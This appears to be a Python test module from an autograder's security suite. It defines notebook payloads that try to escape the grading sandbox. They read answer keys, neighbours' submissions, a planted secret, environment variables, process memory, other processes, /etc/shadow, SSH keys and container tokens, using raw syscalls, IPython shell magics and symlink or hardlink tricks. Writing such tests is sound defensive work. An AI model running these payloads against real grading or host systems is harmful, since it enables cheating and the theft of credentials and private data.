"""What is not the trainee's to see: keys, solutions, neighbours, the grader's own environment and memory."""

import json
import os
from pathlib import Path

from tests.attacks.attack import BELOW, SYSCALL, Attack, Notebook, cell

_IMPORT_KEYS = """
import importlib, importlib.util, os, site, sys
sys.path[:0] = ["@project@/graders", "@project@", "@site@", *site.getsitepackages()]
importlib.invalidate_caches()
for name in ("corredores_graders.answer_keys.m03", "corredores_graders.judging.judge", "corredores_graders.classroom", "datasets.recipes"):
    try:
        __import__(name)
        print(ROTO, name)
    except ImportError:
        pass
try:
    from corredores.corridor import Corridor
    from corredores_graders.answer_keys import module_key
    e5_share = module_key("m03").exercises["e5"].parts[0].right(Corridor("GTM", "USA"))
except ImportError:
    e5_share = None
"""
_KEYS_ON_DISK = """
import os, re
e5_share = None
solved = re.compile(r"^born = .*?^e5_share = .*?$", re.M | re.S)
for path in ("@project@/notebooks/m03-corredores/module.md", "@project@/graders/corredores_graders/answer_keys/m03.py",
             "@project@/demo/trainees/ana-paz.md", "@project@/tests/attempts/m03.md", "@docente@/source/m03/m03.ipynb",
             "@docente@/class.csv", "@docente@/nbgrader_config.py", "@docente@/secreto.txt", "@project@/book/_build",
             "@project@/.git/HEAD", "@project@/pyproject.toml"):
    try:
        text = open(path).read()
    except OSError:
        continue
    print(ROTO, path, text[:200])
for root in ("@project@", "@docente@", "@home@", "/root", "/home", "/work", "/mnt", "/srv", "/var", "/opt", "/tmp"):
    for where, _, files in os.walk(root):
        for name in files:
            if not where.startswith("@site@") and name in ("m03.py", "module.md", "class.csv", "gradebook.db", "secreto.txt", "ana-paz.md", "m03.ipynb"):
                print(ROTO, os.path.join(where, name))
"""
_NEIGHBOURS = """
import glob, os
places = ["@docente@", "@docente@/submitted", "@docente@/autograded", "@docente@/..", "../..", "..", "/proc/1/root@docente@",
          "/proc/self/root@docente@", "/proc/1/cwd", "/proc/self/cwd/..", "/dev/fd/3", "/proc/thread-self/cwd/.."]
for place in places:
    for path in glob.glob(place + "/**/*", recursive=True)[:5000]:
        if any(word in path for word in ("submitted", "ana-paz", "gradebook", "secreto")) and os.path.exists(path):
            print(ROTO, path)
e5_share = None
"""
_ENVIRON = """
import ctypes, glob, os, re
SECRET = re.compile(rb"SECRETO-[a-z]+-[0-9a-f]{16}")
def say(where, found):
    for one in set(found):
        print(ROTO, where, one.decode())
say("os.environ", SECRET.findall(repr(dict(os.environ)).encode()))
char_pp = ctypes.POINTER(ctypes.c_char_p)
at, place = char_pp.in_dll(ctypes.CDLL(None), "environ"), 0
while at and at[place]:
    say("environ", SECRET.findall(at[place]))
    place += 1
for name in ("environ", "cmdline", "auxv", "maps", "mountinfo", "cgroup", "stat", "status", "comm"):
    for path in glob.glob(f"/proc/*/{name}") + glob.glob(f"/proc/*/task/*/{name}"):
        try:
            say(path, SECRET.findall(open(path, "rb").read()))
        except OSError:
            pass
for name in os.environ:
    if any(word in name.lower() for word in ("nbgrader_", "jpy_", "token", "secret", "key", "scheduler")):
        print(name)
e5_share = None
"""
_OWN_MEMORY = """
import re
SECRET = re.compile(rb"SECRETO-[a-z]+-[0-9a-f]{16}")
seen = set()
try:
    maps = open("/proc/self/maps").read().splitlines()
    memory = open("/proc/self/mem", "rb", 0)
except OSError:
    maps = []
for line in maps:
    span, rights = line.split()[:2]
    if not rights.startswith("r") or "[v" in line:
        continue
    start, end = (int(one, 16) for one in span.split("-"))
    if end - start > 300 << 20:
        continue
    try:
        memory.seek(start)
        seen |= set(SECRET.findall(memory.read(end - start)))
    except (OSError, ValueError, OverflowError):
        pass
for one in seen:
    print(ROTO, one.decode())
e5_share = None
"""
# Without /proc: walk addresses from objects at hand, each page asked of the kernel first.
_OWN_MEMORY_CTYPES = (
    SYSCALL
    + """
import re
SECRET = re.compile(rb"SECRETO-[a-z]+-[0-9a-f]{16}")
PAGE, found, seen = 4096, set(), set()
residency = ctypes.create_string_buffer(1)
def walk(address, step, pages):
    address -= address % PAGE
    for _ in range(pages):
        if address in seen or sc(27, address, PAGE, residency) < 0:   # mincore: is it mapped?
            return
        seen.add(address)
        reader, writer = os.pipe()
        if sc(1, writer, address, PAGE) == PAGE:                      # write: is it readable?
            found.update(SECRET.findall(os.read(reader, PAGE)))
        os.close(reader); os.close(writer)
        address += step
environ = ctypes.c_void_p.in_dll(libc, "environ").value or 0
string = ctypes.cast(environ, ctypes.POINTER(ctypes.c_void_p))[0] if environ else 0
for start in (environ, string, id(os), id(found), id(SECRET), id(10**50), id("x" * 5000)):
    if start:
        walk(start, PAGE, 800)
        walk(start, -PAGE, 800)
for one in found:
    print(ROTO, one.decode())
e5_share = None
"""
)
_INHERITED = (
    SYSCALL
    + """
import glob, socket, stat
buffer = ctypes.create_string_buffer(65536)
for fd in range(3, 1024):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        where = "?"
    print("fd", fd, stat.filemode(kind), where if "pipe" in where or "socket" in where else "")
    if any(word in where for word in ("gradebook", "@docente@", "@project@", "@home@")):
        print(ROTO, where)
    if stat.S_ISDIR(kind):
        for path in ("../../../../etc/passwd", "submitted", "class.csv", "../docente/secreto.txt"):
            if sc(257, fd, path.encode() + b"\\0", 0) >= 0:
                print(ROTO, "openat", fd, path)
    if stat.S_ISREG(kind):
        got = sc(17, fd, buffer, 65536, 0)
        if got > 0:
            print("read", fd, got, repr(buffer.raw[:200]))
e5_share = None
"""
)
_NATIVE_OPENS = (
    SYSCALL
    + """
import mmap, sqlite3
import numpy as np, pandas as pd, pyarrow as pa
GRADES, SECRET = "@docente@/gradebook.db", "@docente@/secreto.txt"
libc.fopen.restype = ctypes.c_void_p
ways = {
    "fopen": lambda: libc.fopen(SECRET.encode(), b"r") or 1 / 0,
    "open": lambda: 1 / (sc(2, SECRET.encode(), 0) >= 0),
    "openat": lambda: 1 / (sc(257, -100, SECRET.encode(), 0) >= 0),
    "openat path only": lambda: 1 / (sc(257, -100, SECRET.encode(), 0o10000000) >= 0),
    "openat2": lambda: 1 / (sc(437, -100, SECRET.encode(), ctypes.create_string_buffer(24), 24) >= 0),
    "open_by_handle": lambda: 1 / (sc(304, 3, ctypes.create_string_buffer(64), 0) >= 0),
    "name_to_handle": lambda: 1 / (sc(303, -100, SECRET.encode(), ctypes.create_string_buffer(b"\\x40\\0\\0\\0" + bytes(80)), ctypes.create_string_buffer(8), 0) >= 0),
    "sqlite": lambda: sqlite3.connect(f"file:{GRADES}?mode=ro", uri=True).execute("select * from student").fetchall(),
    "sqlite attach": lambda: sqlite3.connect(":memory:").execute(f"attach '{GRADES}' as g").execute("select * from g.grade"),
    "pandas": lambda: pd.read_csv(SECRET),
    "numpy": lambda: np.memmap(SECRET, mode="r"),
    "numpy text": lambda: np.fromfile(SECRET, dtype="u1"),
    "arrow": lambda: pa.memory_map(SECRET).read(),
    "arrow file": lambda: pa.OSFile(SECRET).read(),
    "link": lambda: os.link(SECRET, "copia"),
    "truncate": lambda: os.truncate(SECRET, 0),
    "xattr": lambda: os.listxattr(SECRET),
    "readlink": lambda: os.readlink("@docente@/submitted/read-symlinked-notebook/m03/m03.ipynb"),
    "listdir": lambda: os.listdir("@docente@"),
    "symlink": lambda: (os.symlink(SECRET, "enlace"), open("enlace").read()),
    "symlink folder": lambda: (os.symlink("@docente@", "carpeta"), os.listdir("carpeta")),
    "relative": lambda: open("../" * 20 + SECRET[1:]).read(),
    "scandir": lambda: list(os.scandir("@home@")),
}
for name, way in ways.items():
    try:
        print(ROTO, name, way())
    except Exception as error:
        print(name, type(error).__name__)
e5_share = None
"""
)
_MAGICS = """
shell = get_ipython()
lines = ["cat @docente@/secreto.txt", "sx cat @docente@/secreto.txt", "system cat @docente@/secreto.txt", "pycat @docente@/secreto.txt",
         "pfile @docente@/secreto.txt", "load @docente@/secreto.txt", "less @docente@/secreto.txt", "more @docente@/secreto.txt",
         "run @docente@/secreto.txt", "run -m corredores_graders", "history -g", "cd @docente@", "ls @docente@", "env", "bookmark x @docente@",
         "loadpy @docente@/secreto.txt", "edit @docente@/secreto.txt", "notebook -e @docente@/x.ipynb", "save @docente@/x.py 1", "store x",
         "load_ext storemagic", "load_ext autoreload", "autoreload 2", "profile", "alias_magic t timeit", "rehashx", "who", "debug", "pdb on",
         "prun 1", "gui qt", "pylab", "matplotlib inline", "pip list", "conda list", "colors NoColor", "xmode Verbose", "logstart @docente@/log"]
for line in lines:
    name, _, rest = line.partition(" ")
    try:
        print(name, shell.run_line_magic(name, rest))
    except BaseException as error:
        print(name, type(error).__name__)
for name in ("bash", "sh", "script bash", "system", "perl", "ruby", "python3", "writefile @docente@/nuevo.txt", "file @docente@/nuevo.txt",
             "javascript", "html", "svg", "latex", "sx", "capture", "timeit", "prun", "pypy"):
    magic, _, rest = name.partition(" ")
    try:
        print(magic, shell.run_cell_magic(magic, rest, "cat @docente@/secreto.txt; ls @docente@; id"))
    except BaseException as error:
        print(magic, type(error).__name__)
shell.run_cell("!cat @docente@/secreto.txt\\nfiles = !ls @docente@\\nprint(files)")
%cd -q .
e5_share = None
"""
_HISTORY = """
import glob, os, sqlite3
for base in {os.path.expanduser("~"), "@home@", "/root", get_ipython().ipython_dir or "."}:
    for path in glob.glob(base + "/**/history.sqlite", recursive=True) + glob.glob(base + "/.*history*"):
        try:
            print(ROTO, path, sqlite3.connect(path).execute("select * from history").fetchall()[:5])
        except sqlite3.Error as error:
            print(type(error).__name__)
manager = get_ipython().history_manager
for way in (lambda: list(manager.get_tail(100)), lambda: list(manager.search("*secreto*")), lambda: list(manager.get_range(-1))):
    try:
        print(way())
    except Exception as error:
        print(type(error).__name__)
print([one[:60] for one in get_ipython().user_ns.get("In", [])][:3])
e5_share = None
"""
_SYSTEM = """
import glob, os
for path in ("/etc/shadow", "/etc/ssh", "/root/.ssh", "/root/.bashrc", "/var/lib", "/var/log", "/var/spool", "/run", "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg",
             "/proc/1/environ", "/sys/class/dmi/id/product_uuid", "/sys/class/net", "/proc/keys", "/proc/sysvipc/shm", "/boot",
             "/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/docker.sock", "/etc/machine-id", "/proc/net/unix", "/proc/net/tcp", "/etc/hosts"):
    try:
        text = str(os.listdir(path))[:300] if os.path.isdir(path) else open(path, "rb").read(300).decode("utf-8", "replace")
    except OSError as error:
        print(path, error.errno)
        continue
    if text and text != "[]" and path.startswith(("/etc/shadow", "/root/", "/proc/kcore", "/dev/", "/run/secrets", "/var/run", "/etc/ssh/")):
        print(ROTO, path, text)
    if "@abstract@" in text or f":{@port@:04X}" in text:
        print(ROTO, path, text)
e5_share = None
"""
_PARENT = (
    SYSCALL
    + """
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
here, there = Iovec(ctypes.addressof(buffer), 64), Iovec(id(os), 64)
for pid in {os.getppid(), 1, 2, 3, @victim@, *range(1, 400)} - {os.getpid(), 0}:
    for name, back in {"process_vm_readv": sc(310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
                       "process_vm_writev": sc(311, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
                       "ptrace seize": sc(101, 0x4206, pid, 0, 0), "pidfd_open": sc(434, pid, 0), "kcmp": sc(312, os.getpid(), pid, 0, 0, 0),
                       "get_robust_list": sc(274, pid, buffer, buffer)}.items():
        if back >= 0:
            print(ROTO, name, pid, back)
    for name in ("mem", "environ", "maps", "cmdline", "root/", "cwd/", "fd/", "stack", "io", "status"):
        try:
            path = f"/proc/{pid}/{name}"
            found = os.listdir(path) if name.endswith("/") else open(path, "rb").read(200)
            if found and os.path.realpath(f"/proc/{pid}") != os.path.realpath("/proc/self") and pid != 1:
                print(ROTO, path, found)
        except (OSError, ValueError):
            pass
e5_share = None
"""
)
_OBJECTS = """
import ctypes, gc, inspect, re, sys, types
SECRET = re.compile(r"SECRETO-[a-z]+-[0-9a-f]{16}")
WORDS = ("corredores_graders.answer_keys", "corredores_graders.judging", "corredores_graders.classroom", "nbgrader", "sqlalchemy", "distributed")
for name in sys.modules:
    if name.startswith(WORDS):
        print(ROTO, "module", name)
for thing in gc.get_objects():
    try:
        written = repr(thing) if type(thing) in (str, bytes, dict, list, tuple) else ""
    except BaseException:
        continue
    for one in SECRET.findall(written):
        print(ROTO, one)
for frame in sys._current_frames().values():
    while frame:
        for name, value in list(frame.f_locals.items()):
            written = repr(value)[:20000] if isinstance(value, (str, bytes, dict, list, tuple)) else ""
            if SECRET.search(written) or name in ("roster", "class_list", "answer_key"):
                print(ROTO, frame.f_code.co_qualname if hasattr(frame.f_code, "co_qualname") else frame.f_code.co_name, name)
        frame = frame.f_back
e5_share = None
"""
_SHARED = (
    SYSCALL
    + """
import re
for folder in ("/dev/shm", "/dev/mqueue", "/tmp", "/var/tmp", "/run", "/dev/hugepages"):
    try:
        for name in os.listdir(folder):
            print(folder, name)
            try:
                text = open(f"{folder}/{name}", "rb").read(1 << 20)
            except OSError:
                continue
            if re.search(rb"SECRETO-[a-z]+-[0-9a-f]{16}", text) or re.search(rb"MARCA", text):
                print(ROTO, folder, name)
    except OSError as error:
        print(folder, error.errno)
buffer = ctypes.create_string_buffer(256)
for number in range(64):
    if sc(31, number, 13, buffer) >= 0:      # shmctl SHM_STAT
        print(ROTO, "shm", number)
    if sc(71, number, 11, buffer) >= 0:      # msgctl MSG_STAT
        print(ROTO, "msg", number)
for keyring in (-1, -2, -3, -4, -5):
    if sc(250, 11, keyring, buffer, 256) > 0:  # keyctl READ
        print(ROTO, "keyring", keyring)
e5_share = None
"""
)
_FROM_FILE = """
import os
for name in sorted(os.listdir(".")):
    try:
        print(name, os.path.islink(name), open(name, "rb").read(400))
    except OSError as error:
        print(name, error.errno)
try:
    print(open("m03.check.json").read()[:2000])
except OSError:
    pass
e5_share = None
"""


def _with(content: bytes, code: str) -> bytes:
    notebook: Notebook = json.loads(content)
    cell(notebook, "m03-e5-answer")["source"] = code
    return json.dumps(notebook, ensure_ascii=False).encode()


def _trainer(folder: Path) -> Path:
    return folder.parents[2]


def _symlinked_notebook(folder: Path, content: bytes) -> None:
    """The neighbour's notebook, handed in as one's own."""
    (folder / "m03.ipynb").symlink_to(_trainer(folder) / "submitted" / "ana-paz" / "m03" / "m03.ipynb")


def _symlinked_secret(folder: Path, content: bytes) -> None:
    (folder / "m03.ipynb").symlink_to(_trainer(folder) / "secreto.txt")


def _symlinked_companions(folder: Path, content: bytes) -> None:
    """Files beside the notebook that lead elsewhere, in the hope that they are carried into the run."""
    (folder / "m03.ipynb").write_bytes(_with(content, _FROM_FILE))
    for name, target in {
        "m03.check.json": _trainer(folder) / "secreto.txt",
        "datos.csv": _trainer(folder) / "gradebook.db",
        "notas": _trainer(folder),
    }.items():
        (folder / name).symlink_to(target)


def _symlinked_folder(folder: Path, content: bytes) -> None:
    """The whole submission is the neighbour's folder."""
    folder.rmdir()
    folder.symlink_to(_trainer(folder) / "submitted" / "ana-paz" / "m03")


def _hardlinked(folder: Path, content: bytes) -> None:
    (folder / "m03.ipynb").write_bytes(_with(content, _FROM_FILE))
    os.link(_trainer(folder) / "secreto.txt", folder / "datos.csv")


ATTACKS = [
    Attack("keys-imported", "file", _IMPORT_KEYS, nbgrader=True),
    Attack("keys-on-disk", "file", _KEYS_ON_DISK, nbgrader=True),
    Attack("neighbours-by-path", "file", _NEIGHBOURS),
    Attack("environment", "process", _ENVIRON, nbgrader=True),
    Attack("own-memory", "native", _OWN_MEMORY, nbgrader=True),
    Attack("own-memory-by-address", "native", _OWN_MEMORY_CTYPES),
    Attack("inherited-descriptors", "native", _INHERITED),
    Attack("native-opens", "native", _NATIVE_OPENS, nbgrader=True),
    Attack("magics", "magic", _MAGICS, maybe=BELOW),
    Attack("history", "magic", _HISTORY),
    Attack("system-files", "file", _SYSTEM),
    Attack("parent-process", "native", _PARENT),
    Attack("objects-and-frames", "hook", _OBJECTS),
    Attack("shared-memory", "native", _SHARED),
    Attack("symlinked-notebook", "file", nbgrader=True, arrive=_symlinked_notebook, refused="es un enlace", lost=""),
    Attack("symlinked-secret", "file", arrive=_symlinked_secret, refused="es un enlace", lost=""),
    Attack("symlinked-companions", "file", nbgrader=True, arrive=_symlinked_companions),
    Attack("symlinked-folder", "file", arrive=_symlinked_folder, refused="es un enlace", lost=""),
    Attack("hardlinked-companion", "file", arrive=_hardlinked),
]
